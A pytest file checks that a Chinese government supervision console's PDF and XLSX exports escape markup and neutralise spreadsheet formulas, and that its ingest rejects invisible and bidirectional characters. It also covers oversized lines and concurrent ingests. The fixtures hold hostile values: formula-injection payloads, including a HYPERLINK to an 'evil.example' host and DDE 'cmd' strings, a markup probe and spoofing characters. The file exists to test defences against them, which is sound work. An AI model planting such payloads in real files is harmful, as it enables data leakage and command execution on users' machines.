"""Data is never code, and the command line fails cleanly: exports escape markup and neutralise formulas;
ingest refuses characters that display other than they read, reads lines with a bounded buffer, and several
first ingests at once no longer race on the catalogue."""

from __future__ import annotations

import datetime as dt
import json
import multiprocessing

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from console.cli import main
from console.domain.supervision_rows import PeriodReport
from console.ingest.records import MAX_LINE_CHARS, RecordError, bounded_lines, parse_line
from console.supervision.report_export import OutputExists, write
from console.supervision.reports import build_report


def hostile_report(Session, cal, unit_name: str) -> PeriodReport:
    from console.domain import catalogue
    from console.models import repository as repo

    with Session.begin() as s:
        repo.sync_catalogue(s, catalogue.units(), catalogue.items())
    with Session() as s:
        report = build_report(s, cal, dt.date(2025, 1, 1), dt.date(2025, 6, 30), None, generated_at=repo.now())
    rows = [dict(r) for r in report.ranking] or [{}]
    rows[0] = {**rows[0], "unit_name": unit_name}
    import dataclasses

    return dataclasses.replace(report, ranking=rows, scope_name=unit_name)


@pytest.mark.parametrize("name", ['<img src="/etc/passwd"/> 锦江区', "a < b & c 区"])
def test_pdf_escapes_markup_from_data(Session, cal, tmp_path, name):
    report = hostile_report(Session, cal, name)
    out = write(report, "pdf", tmp_path / "r.pdf")
    pdf = "".join(p.extract_text() for p in PdfReader(out).pages)
    assert name.split(" ")[0][:4] in pdf  # drawn as the text it is, not read as markup


def test_xlsx_stores_a_leading_formula_character_as_text(Session, cal, tmp_path):
    report = hostile_report(Session, cal, '=HYPERLINK("http://evil","点击")')
    out = write(report, "xlsx", tmp_path / "r.xlsx")
    wb = load_workbook(out)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] == "="]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_out_is_never_overwritten_silently_and_never_half_written(Session, cal, tmp_path):
    report = hostile_report(Session, cal, "锦江区")
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "r.json"
    target.write_text("keep me")
    with pytest.raises(OutputExists):
        write(report, "json", target)
    assert target.read_text() == "keep me"
    write(report, "json", target, force=True)
    assert json.loads(target.read_text())  # the report, whole
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["r.json"]  # no temporary file left behind


@pytest.mark.parametrize(
    ("field", "value", "why"),
    [
        ("case_no", "510100-\u202e2024-001", "bidirectional control character (U+202E"),
        ("handler", "李\u200b四", "invisible format character (U+200B ZERO WIDTH SPACE)"),
        ("handler", "李\u2028四", "line or paragraph separator"),
        ("unit_code", "D01\ufeff", "invisible format character"),
    ],
)
def test_ingest_rejects_what_displays_other_than_it_reads(field, value, why):
    rec = {"record_id": "x1", "type": "accept", "case_no": "510100-1", "occurred_at": "2025-09-26T10:00",
           "item_code": "D01-001", "unit_code": "D01", "handler": "张伟"}  # fmt: skip
    rec[field] = value
    with pytest.raises(RecordError) as info:
        parse_line(json.dumps(rec, ensure_ascii=False), 7)
    print(f"INGEST {field}={value!r} -> {info.value}")
    assert why in str(info.value) and f"field {field}" in str(info.value)


def test_a_huge_line_is_not_read_whole(tmp_path):
    path = tmp_path / "big.jsonl"
    with path.open("w") as f:
        f.write('{"a": "' + "x" * (MAX_LINE_CHARS * 20) + '"}\n{"b": 1}\n')
    with path.open() as f:
        lines = list(bounded_lines(f))
    assert [len(x) for x in lines] == [MAX_LINE_CHARS + 1, len('{"b": 1}\n')]
    with pytest.raises(RecordError, match="at most"):
        parse_line(lines[0], 1)


def _ingest(url: str, path: str, barrier) -> int:
    barrier.wait()
    return main(["ingest", path, "--db", url])


def _run_ingest(url, path, barrier, codes):
    codes.put(_ingest(url, path, barrier))


def test_first_ingests_at_once_do_not_race_on_the_catalogue(db_url, tmp_path, capfd):
    path = tmp_path / "recs.jsonl"
    path.write_text(
        json.dumps(
            {
                "record_id": "r1",
                "type": "apply",
                "case_no": "510100-R1",
                "occurred_at": "2025-09-26T10:00",
                "item_code": "D01-001",
            }
        )
        + "\n"
    )
    ctx = multiprocessing.get_context("spawn")
    barrier, codes = ctx.Barrier(3), ctx.Queue()
    procs = [ctx.Process(target=_run_ingest, args=(db_url, str(path), barrier, codes)) for _ in range(3)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(120)
    got = sorted(codes.get(timeout=5) for _ in procs)
    err = capfd.readouterr().err
    print(f"three first ingests at once: exit codes {got}")
    assert got == [0, 0, 0], err
    assert "units_code_key" not in err and "[SQL:" not in err and "Traceback" not in err


HOSTILE_CELLS = (
    '=HYPERLINK("http://evil.example/"&A1,"广电局")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)  # a leading CR is neutralised too (report_export.FORMULA_STARTS), but XML reads it back as LF


def test_xlsx_every_sheet_stores_hostile_names_as_text(Session, cal, tmp_path):
    """Every sheet, the 督办与申诉 one among them (once filled with ``ws.append``, so a unit named ``=HYPERLINK(…)``
    became a live formula and one starting with ``-`` had no quote prefix): each hostile value read back from the
    file is a string cell with the quote prefix, and no cell of the workbook is a formula."""
    import dataclasses

    eq, minus, plus, at, tab = HOSTILE_CELLS
    base = hostile_report(Session, cal, eq)
    per_unit = [
        {"unit_code": "D01", "unit_name": minus, "黄牌督办": 1, "申诉驳回": 0},
        {"unit_code": "D02", "unit_name": eq, "黄牌督办": 0, "申诉驳回": 1},
    ]
    report = dataclasses.replace(
        base,
        scope_name=tab,
        # a rule is written by its name; an id without one (a newer console's rule) as it is
        alarms={**base.alarms, "by_rule": {plus: 2, minus: 1}, "rule_labels": {plus: at}},
        accountability={**base.accountability, "by_sanction": {tab: 1}},
        units_criticised={"count": 1, "units": [minus]},
        complaints={**base.complaints, "by_channel": {at: 1}},
        items=[
            {
                "item_code": eq,
                "item_name": plus,
                "unit_name": minus,
                "cases": 1,
                "avg_working_days_used": 1.0,
                "promised_days": 5,
                "statutory_days": 20,
            }
        ],
        followup={**base.followup, "per_unit": per_unit},
    )
    wb = load_workbook(write(report, "xlsx", tmp_path / "r.xlsx"))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []
    hostile = {(ws.title, c.value) for ws in wb for row in ws.iter_rows() for c in row if c.value in HOSTILE_CELLS}
    assert {
        ("督办与申诉", minus),
        ("督办与申诉", eq),
        ("告警", at),
        ("告警", minus),
        ("责任追究", tab),
        ("责任追究", minus),
        ("投诉", at),
        ("事项用时", eq),
        ("事项用时", plus),
        ("事项用时", minus),
        ("单位排名", eq),
    } <= hostile
    starts = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert len(starts) >= 11 and all(c.data_type == "s" and c.quotePrefix for c in starts)
    assert wb["概要"]["A1"].value.startswith("行政审批电子监察") and "\t=1+1" in wb["概要"]["A2"].value
